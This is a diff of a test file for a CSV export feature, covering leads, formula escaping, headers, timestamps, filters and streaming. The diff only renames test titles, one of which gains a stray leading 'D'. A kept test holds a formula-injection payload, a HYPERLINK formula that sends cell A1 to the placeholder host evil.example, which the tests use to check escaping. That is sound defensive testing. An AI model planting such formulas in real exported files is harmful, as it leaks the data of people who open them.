@@ -60,7 +60,7 @@ test('names that a spreadsheet would run are in the file as text (R51)', async (
   expect(names.map((name) => unescapeFormula(name ?? '')).toReversed()).toEqual(payloads);
 });
 
-test('what a stranger wrote begins no formula, whichever separator the file is opened with (R51)', async () => {
+test('a stranger’s text begins no formula, for any separator that opens the file (R51)', async () => {
   const companyName = 'Hello;=HYPERLINK("http://evil.example?"&A1,"Open")\t+1|@SUM(1)\n-2';
   const lead = { firstName: 'Mal', lastName: 'x;=1+1', email: 'mal@example.com', companyName };
   expect((await quoin.app.inject({ method: 'POST', url: '/api/contact', payload: lead })).statusCode).toBe(
@@ -75,14 +75,14 @@ test('what a stranger wrote begins no formula, whichever separator the file is o
   expect(column(rows, 'Company Name').map((cell) => unescapeFormula(cell ?? ''))).toEqual([companyName]);
 });
 
-test('the file has a name and says what it is', async () => {
+test('the file has a name and its media type', async () => {
   const { headers } = await ada.ask('GET', '/contact-submissions.csv');
   expect(headers['content-type']).toBe('text/csv; charset=utf-8');
   expect(headers['content-disposition']).toMatch(/^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/);
   expect(headers['cache-control']).toBe('no-store');
 });
 
-test('values are as people write them', async () => {
+test('values have the notation of people', async () => {
   await addProperty(ada, {
     address: '7 "Quoted" Ln',
     propertyType: 'single-family',
@@ -113,7 +113,7 @@ test('values are as people write them', async () => {
   expect(column(products, 'Active')).toEqual(['No']);
 });
 
-test('a lead is told with the moment it came', async () => {
+test('a lead has the moment of its arrival', async () => {
   await insertContactSubmission(quoin.db, {
     firstName: 'Iris',
     lastName: 'Unger',
@@ -124,7 +124,7 @@ test('a lead is told with the moment it came', async () => {
   expect(column(rows, 'Received (UTC)')[0]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/);
 });
 
-describe('a file holds what the list shows, for whoever may see it', () => {
+describe('D a file holds the rows of the list, for callers who may see it', () => {
   test('narrowed and sorted in the same way', async () => {
     for (const companyName of ['Zinc Works', 'Alder Works', 'Maple Works'])
       await addSubcontractor(ada, { companyName, specialty: 'Carpentry' });
@@ -151,7 +151,7 @@ describe('a file holds what the list shows, for whoever may see it', () => {
     }
   });
 
-  test('a filter that does not fit is told before anything is sent', async () => {
+  test('a filter that does not fit is reported before any data is sent', async () => {
     const message = 'Sort must be one of added, -added, name, -name, company, -company';
     expectError(await ada.ask('GET', '/contact-submissions.csv?sort=age'), 'VALIDATION', message, 'sort');
     expectError(
@@ -185,7 +185,7 @@ describe('while a file is sent', () => {
     return { app, state, answer };
   }
 
-  test('no more of it is made than is taken, and nothing once nobody takes it', async () => {
+  test('it is made only as fast as the client takes it, and not after the client left', async () => {
     const { app, state, answer } = await endless();
     answer.pause();
     let seen = -1;
@@ -199,7 +199,7 @@ describe('while a file is sent', () => {
     await app.close();
   });
 
-  test('a failure in the middle breaks it off, so that nobody takes it for the whole', async () => {
+  test('a failure in the middle breaks it off, so that it does not look whole', async () => {
     const app = Fastify();
     async function* read() {
       yield 'half';
@@ -216,7 +216,7 @@ describe('while a file is sent', () => {
     await app.close();
   });
 
-  test('a failure at its beginning is told as an error', async () => {
+  test('a failure at its beginning is reported as an error', async () => {
     const app = Fastify();
     async function* read(): AsyncGenerator<string, void> {
       await Promise.reject(new Error('gone'));
